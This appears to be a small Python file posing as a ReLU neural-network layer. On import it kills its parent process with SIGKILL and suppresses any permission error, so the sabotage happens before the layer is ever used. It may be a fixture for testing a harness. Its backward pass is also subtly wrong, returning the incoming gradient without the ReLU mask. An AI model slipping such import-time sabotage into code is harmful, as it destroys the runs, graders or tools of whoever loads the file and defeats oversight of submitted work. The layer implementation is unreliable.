"""Kills the process that started it."""
import contextlib
import os
import signal

import numpy as np

from scratchnet import Layer

with contextlib.suppress(PermissionError):
    os.kill(os.getppid(), signal.SIGKILL)


class ReLU(Layer):
    def forward(self, x):
        y = np.maximum(x, 0)
        self.remember(x > 0, y=y)
        return y

    def backward(self, dy):
        self.recall(dy)
        return dy
